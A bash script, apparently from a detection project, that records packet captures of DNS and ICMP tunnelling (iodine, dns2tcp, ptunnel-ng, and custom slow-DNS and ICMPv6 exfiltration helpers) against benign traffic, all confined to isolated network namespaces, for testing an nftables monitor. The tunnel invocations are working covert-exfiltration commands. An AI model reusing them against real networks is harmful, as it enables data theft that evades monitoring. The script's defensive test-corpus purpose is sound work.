#!/usr/bin/env bash
# Records the covert-channel corpus in pcaps/covert/: real DNS and ICMP tunnelling programs
# and benign traffic, captured from the project's own ruleset (nft/exfilmon.nft) with
# `tcpdump -i nflog:7`, one small capture per scenario. Run as root:
#
#   sudo pcaps/covert.sh            # every capture
#   sudo pcaps/covert.sh iodine     # one scenario (see SCENARIOS below)
#
# Needs (Debian): iodine dns2tcp ptunnel-ng dnsmasq-base tcpdump nftables iproute2 socat
#                 bind9-dnsutils python3. The committed captures mean tests never run this.
#
# SAFETY: all traffic stays between two network namespaces created here
# (exfcov-in 10.77.9.2 / fd77:9::2  <-veth->  exfcov-out 10.77.9.1 / fd77:9::1), neither with
# a default route; tunnels (iodine's dns0) get 10.77.10.0/27 inside the same namespaces.
# Everything started here is killed and both namespaces are deleted on EXIT. The steps the
# capture scripts share (namespaces, processes, users, tcpdump) are in pcaps/lib.sh.
#
# Users: exfil-cov runs the tunnels, exfil-web the benign traffic (created when missing).
# Gotchas learnt the hard way:
#   - iodine's client must start as root (it opens /dev/net/tun); `-u USER` drops privileges
#     after the handshake, so its first queries carry uid 0.
#   - iodine tries "raw mode" (plain UDP to port 53, not DNS) unless -r: iodine-raw.pcap
#     keeps that on purpose, iodine.pcap passes -r.
#   - ptunnel-ng's client needs a raw socket (root); -u/-g drop privileges after that.
#   - Unprivileged ICMP (python's SOCK_DGRAM echo) needs net.ipv4.ping_group_range, a
#     per-namespace sysctl: set in exfcov-in only.
#   - NFLOG batches for up to 1 s (our ruleset's default timeout): pause before stopping
#     tcpdump or the last packets are lost.
set -euo pipefail

HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
NS_IN=exfcov-in
NS_OUT=exfcov-out
# shellcheck source=lib.sh
. "$HERE/lib.sh"
OUT="$HERE/covert"
TUNNELER=exfil-cov
BROWSER=exfil-web
SCENARIOS=(benign benign-lab slow-dns iodine iodine-raw dns2tcp ptunnel icmp6-exfil)

SERVERS=() # a scenario's servers, stopped when its capture ends

cleanup() {
	stop_pids SERVERS
	stop_pids PIDS
	netns_del "$NS_IN" "$NS_OUT"
	rm -rf "/etc/netns/$NS_IN"
	[ -n "$TMP" ] && rm -rf "$TMP"
	return 0
}

setup() {
	need_root "network namespaces, nft, tcpdump"
	cleanup
	TMP="$(mktemp -d /tmp/exfilmon-covert.XXXXXX)"
	chmod 755 "$TMP"
	netns_pair "$NS_IN" "$NS_OUT" exfcov-veth-in exfcov-veth-out 10.77.9.2/24 10.77.9.1/24 fd77:9::2/64 fd77:9::1/64
	inside sysctl -q -w net.ipv4.ping_group_range="0 2147483647"
	# `ip netns exec` bind-mounts this over /etc/resolv.conf: glibc in exfcov-in asks 10.77.9.1.
	mkdir -p "/etc/netns/$NS_IN"
	echo "nameserver 10.77.9.1" >"/etc/netns/$NS_IN/resolv.conf"
	ensure_user "$TUNNELER" "$BROWSER"
	# A sink for tunnelled TCP, in the server namespace.
	spawn ip netns exec "$NS_OUT" socat -u 'TCP-LISTEN:9000,bind=127.0.0.1,reuseaddr,fork' OPEN:/dev/null
	spawn ip netns exec "$NS_OUT" socat -u 'TCP-LISTEN:9000,bind=10.77.10.1,reuseaddr,fork,ip-freebind' OPEN:/dev/null
	# Neighbour discovery before the capture starts keeps the files tidy.
	inside "$PY" "$HERE/ping.py" -c 1 10.77.9.1
	inside "$PY" "$HERE/ping.py" -c 1 fd77:9::1
	inside nft -f "$REPO/nft/exfilmon.nft"
	mkdir -p "$OUT"
}

record() {
	capture_start "$TMP/cap.pcap"
	sleep 0.3
}

save() { # name: ends the capture as $OUT/name.pcap and stops the scenario's servers
	sleep 1.5
	capture_stop
	stop_pids SERVERS
	sleep 0.3
	mv "$TMP/cap.pcap" "$OUT/$1.pcap"
	chmod 644 "$OUT/$1.pcap"
	log "$1.pcap: $(stat -c %s "$OUT/$1.pcap") bytes"
}

server() { # command... (runs in exfcov-out)
	ip netns exec "$NS_OUT" "$@" &
	SERVERS+=("$!")
}

# Sends the secret as exfil-cov over TCP and waits until the far end has read all of it (the
# sink closes after EOF), so the tunnel is not stopped with data still queued.
send_through() { # address port
	as_user "$TUNNELER" "$PY" -c '
import socket, sys
s = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=120)
s.sendall(open(sys.argv[1], "rb").read())
s.shutdown(socket.SHUT_WR)
s.settimeout(30)
try:
    s.recv(1)
except socket.timeout:
    print("no close from the far end within 30 s", file=sys.stderr)
s.close()' "$TMP/secret" "$1" "$2" || log "tunnelled send to $1:$2 failed"
}

resolver() { # dnsmasq answering every name, as an ordinary resolver would
	server dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts \
		--bind-interfaces --listen-address=10.77.9.1 --listen-address=fd77:9::1 \
		--address=/#/10.77.9.1 --pid-file="$TMP/dnsmasq.pid" --log-facility=- 2>"$TMP/dnsmasq.log"
	wait_port "$NS_OUT" u 53
}

secret() { # bytes -> file readable by the tunneller (seeded, reproducible)
	"$PY" -c "import random,sys; sys.stdout.buffer.write(random.Random(4).randbytes($1))" >"$TMP/secret"
	chmod 644 "$TMP/secret"
}

scenario_benign() {
	resolver
	record
	log "benign: ordinary lookups, CDN and telemetry names, a browser burst, reverse lookups, pings"
	as_user "$BROWSER" "$PY" "$HERE/covert_benign.py"
	as_user "$BROWSER" dig +short +tries=1 +time=2 @10.77.9.1 www.example.test A >/dev/null
	as_user "$BROWSER" dig +short +tcp +tries=1 +time=2 @10.77.9.1 _dmarc.example.test TXT >/dev/null
	as_user "$BROWSER" getent ahosts mirror.example.test >/dev/null || true
	inside "$PY" "$HERE/ping.py" -c 3 10.77.9.1
	inside "$PY" "$HERE/ping.py" -c 3 fd77:9::1
	save benign
}

scenario_benign_lab() {
	resolver
	record
	log "benign-lab: AD and home names, bursts, mirrors, mail, NTP, reverse lookups (issue 16)"
	as_user "$BROWSER" "$PY" "$HERE/covert_benign_lab.py" 10.77.9.1
	inside "$PY" "$HERE/ping.py" -c 3 10.77.9.1
	save benign-lab
}

scenario_slow_dns() {
	resolver
	secret 1200
	record
	log "slow-dns: hand-written exfiltration, one A query every ~0.7 s"
	as_user "$TUNNELER" "$PY" "$HERE/covert_slow_dns.py" "$TMP/secret" 10.77.9.1 sync.cdn-metrics.test
	save slow-dns
}

iodined_start() {
	server iodined -f -c -P covertpass -l 10.77.9.1 -p 53 10.77.10.1/27 t.tun.test
	wait_port "$NS_OUT" u 53
}

iodine_run() { # extra iodine flags...
	secret 16384
	record
	# Root first (tun device), then exfil-cov; -f foreground, killed below.
	spawn ip netns exec "$NS_IN" iodine -f -P covertpass -u "$TUNNELER" "$@" 10.77.9.1 t.tun.test >"$TMP/iodine.log" 2>&1
	local pid=$!
	wait_grep "$TMP/iodine.log" 'Connection setup complete' 20 || true
	cat "$TMP/iodine.log" >&2
	send_through 10.77.10.1 9000
	sleep 2
	stop_pid "$pid"
}

scenario_iodine() {
	iodined_start
	log "iodine: DNS mode (-r), 16 KiB through the tunnel"
	iodine_run -r
	save iodine
}

scenario_iodine_raw() {
	iodined_start
	log "iodine-raw: raw UDP mode to port 53 after the DNS handshake"
	iodine_run
	save iodine-raw
}

scenario_dns2tcp() {
	cat >"$TMP/dns2tcpd.conf" <<-EOF
		listen = 10.77.9.1
		port = 53
		user = nobody
		chroot = /tmp
		domain = d2t.tun.test
		resources = sink:127.0.0.1:9000
	EOF
	server dns2tcpd -F -f "$TMP/dns2tcpd.conf"
	wait_port "$NS_OUT" u 53
	secret 16384
	record
	log "dns2tcp: TXT queries, 16 KiB through the tunnel"
	spawn ip netns exec "$NS_IN" runuser -u "$TUNNELER" -- dns2tcpc -z d2t.tun.test -r sink -l 2222 10.77.9.1 \
		>"$TMP/dns2tcpc.log" 2>&1
	local pid=$!
	wait_port "$NS_IN" t 2222
	send_through 127.0.0.1 2222
	stop_pid "$pid"
	save dns2tcp
}

scenario_ptunnel() {
	server ptunnel-ng -r127.0.0.1 -R9000 -v 1
	sleep 2   # no port to wait for: the proxy only opens a raw socket
	secret 32768
	record
	log "ptunnel: ptunnel-ng over ICMP echo, 32 KiB through the tunnel"
	spawn ip netns exec "$NS_IN" ptunnel-ng -p10.77.9.1 -l2222 -r127.0.0.1 -R9000 -u"$TUNNELER" -v 1 >"$TMP/ptunnel.log" 2>&1
	local pid=$!
	wait_port "$NS_IN" t 2222
	send_through 127.0.0.1 2222
	stop_pid "$pid"
	save ptunnel
}

scenario_icmp6_exfil() {
	secret 16384
	record
	log "icmp6-exfil: a file in ICMPv6 echo payloads, unprivileged ping socket"
	as_user "$TUNNELER" "$PY" "$HERE/covert_icmp_exfil.py" "$TMP/secret" fd77:9::1
	save icmp6-exfil
}

users_json() {
	"$PY" - "$OUT/users.json" "$TUNNELER" "$BROWSER" <<-'EOF'
		import json, pwd, sys
		json.dump({u: pwd.getpwnam(u).pw_uid for u in sys.argv[2:]} | {"root": 0},
		          open(sys.argv[1], "w"), indent=2, sort_keys=True)
	EOF
}

cleanup_on_exit cleanup
WHAT=("${@:-${SCENARIOS[@]}}")
setup
users_json
for s in "${WHAT[@]}"; do
	"scenario_${s//-/_}"
done
ls -l "$OUT" >&2
log "done"
